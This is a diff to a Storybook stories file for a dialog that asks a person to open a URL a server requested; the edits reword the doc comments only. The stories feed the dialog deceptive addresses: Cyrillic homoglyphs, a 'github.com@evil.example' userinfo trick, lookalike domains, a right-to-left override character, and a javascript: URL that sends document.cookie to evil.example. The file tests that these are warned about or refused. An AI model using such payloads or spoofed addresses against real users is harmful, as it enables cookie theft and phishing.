@@ -18,7 +18,7 @@ const meta = preview.meta({
   args: { server, onRespond: fn(), onDismiss: fn(), openUrl: fn(), request: ask('') },
 });
 
-/** An ordinary address: the whole of it, and its registrable domain emphasised. */
+/** An ordinary address. All of it is shown, with its registrable domain emphasized. */
 export const Https = meta.story({
   args: {
     request: ask(
@@ -32,7 +32,7 @@ export const Https = meta.story({
   },
 });
 
-/** Not encrypted: danger, so a box has to be ticked first. */
+/** The connection is not encrypted. That is a danger, so a box has to be ticked before Open. */
 export const Http = meta.story({
   args: { request: ask('http://login.example.com/start') },
   play: async ({ canvas, userEvent, args, globals }) => {
@@ -60,7 +60,7 @@ export const NotSent = meta.story({
   },
 });
 
-/** A program on the person's own computer, for a server that runs there too: a quiet note. */
+/** A program on the person's own computer, where the server runs too. A quiet note says so. */
 export const Localhost = meta.story({
   args: {
     server: { name: 'GitHub', url: 'http://localhost:3000' },
@@ -72,7 +72,7 @@ export const Localhost = meta.story({
   },
 });
 
-/** The same for a server elsewhere, which reaches into the person's computer. */
+/** The same address from a server elsewhere, which reaches into the person's computer. */
 export const LocalhostFromAfar = meta.story({
   args: { request: ask('http://localhost:8976/callback') },
   play: async ({ canvas, globals }) => {
@@ -81,7 +81,7 @@ export const LocalhostFromAfar = meta.story({
   },
 });
 
-/** A bare number instead of a name. */
+/** The host is a bare number instead of a name. */
 export const IpAddress = meta.story({
   args: { request: ask('https://93.184.216.34/setup') },
   play: async ({ canvas, globals }) => {
@@ -90,7 +90,7 @@ export const IpAddress = meta.story({
   },
 });
 
-/** An honest internationalised domain: in its own letters, with its ASCII form beside it, and no alarm. */
+/** An honest internationalized domain. It is shown in its own letters, with its ASCII form beside it and no warning. */
 export const PunycodeHonest = meta.story({
   args: { request: ask('https://konto.bücher.example/anmelden') },
   play: async ({ canvas, canvasElement, globals }) => {
@@ -101,7 +101,7 @@ export const PunycodeHonest = meta.story({
   },
 });
 
-/** Cyrillic letters throughout that read as Latin ones: shown in ASCII, and called what it is. */
+/** A name of Cyrillic letters alone, which look like Latin ones. It is shown in ASCII, and a warning says which domain it is not. */
 export const PunycodeSpoofed = meta.story({
   args: { request: ask('https://аррӏе.com/login') },
   play: async ({ canvas, globals }) => {
@@ -121,7 +121,7 @@ export const MixedScript = meta.story({
   },
 });
 
-/** What stands before the @ is no host: this is not opened at all. */
+/** What stands before the @ is a user name and not the host. Such an address is never opened. */
 export const Userinfo = meta.story({
   args: { request: ask('https://github.com@evil.example/login') },
   play: async ({ canvas, globals }) => {
@@ -131,7 +131,7 @@ export const Userinfo = meta.story({
   },
 });
 
-/** The name of somebody else where only its readers' eyes find it, and words of a login page. */
+/** The host poses as github.com: it begins with that name, and has a word of login pages. */
 export const FamousName = meta.story({
   args: { request: ask('https://github.com-auth.dev/session') },
   play: async ({ canvas, globals }) => {
@@ -150,7 +150,7 @@ export const LookalikeOfTheServer = meta.story({
   },
 });
 
-/** Under a suffix where anybody can put pages. */
+/** A page under a suffix where anybody can publish. */
 export const SharedHosting = meta.story({
   args: { request: ask('https://my-app.vercel.app/connect') },
   play: async ({ canvas, globals }) => {
@@ -159,7 +159,7 @@ export const SharedHosting = meta.story({
   },
 });
 
-/** Characters that cannot be seen: spelled where the address is shown as it was sent. */
+/** A character that cannot be seen. It is spelled out where the address is shown as the server sent it. */
 export const HiddenCharacters = meta.story({
   args: { request: ask('https://example.com/\u202egpj.tnemecnuonna') },
   play: async ({ canvas }) => {
@@ -167,7 +167,7 @@ export const HiddenCharacters = meta.story({
   },
 });
 
-/** A right-to-left name between left-to-right ones: no label changes its place. */
+/** A right-to-left name between left-to-right ones. No label changes its place. */
 export const RightToLeftHost = meta.story({
   args: { request: ask('https://login.דוגמה-טובה.example/') },
   play: async ({ canvas }) => {
@@ -176,7 +176,7 @@ export const RightToLeftHost = meta.story({
   },
 });
 
-/** Two thousand characters: all of them are there, in a box that scrolls. */
+/** An address of two thousand characters. All of them are shown, in a box that scrolls. */
 export const LongQuery = meta.story({
   args: {
     request: ask(`https://login.example.com/authorize?state=${'0123456789abcdef'.repeat(125)}`),
@@ -189,7 +189,7 @@ export const LongQuery = meta.story({
   },
 });
 
-/** What is no page of the web is never opened. */
+/** A URL that is not a web page is never opened. */
 export const RefusedScheme = meta.story({
   args: { request: ask('javascript:fetch("https://evil.example/?c=" + document.cookie)') },
   play: async ({ canvas, globals }) => {
@@ -200,7 +200,7 @@ export const RefusedScheme = meta.story({
   },
 });
 
-/** Nothing was opened: the request still waits. */
+/** The page did not open. The request still waits, and Open can be tried again. */
 export const PopupBlocked = meta.story({
   args: { request: ask('https://login.example.com/', 'e1'), openUrl: fn(() => false) },
   play: async ({ canvas, userEvent, args, globals }) => {
@@ -218,7 +218,7 @@ export const PopupBlocked = meta.story({
   },
 });
 
-/** The page is open elsewhere; accept is sent. */
+/** The page is open in another tab or window. The accept has been sent. */
 export const Waiting = meta.story({
   args: { request: ask('https://login.example.com/', 'e1'), isAnswered: true },
   play: async ({ canvas, globals }) => {
@@ -229,7 +229,7 @@ export const Waiting = meta.story({
   },
 });
 
-/** Revision 2026-07-28: accept is sent when the person says that it is done. */
+/** Revision 2026-07-28: the accept is sent when the person says that they are done. */
 export const WaitingToFinish = meta.story({
   args: { request: ask('https://login.example.com/') },
   play: async ({ canvas, userEvent, args, globals }) => {
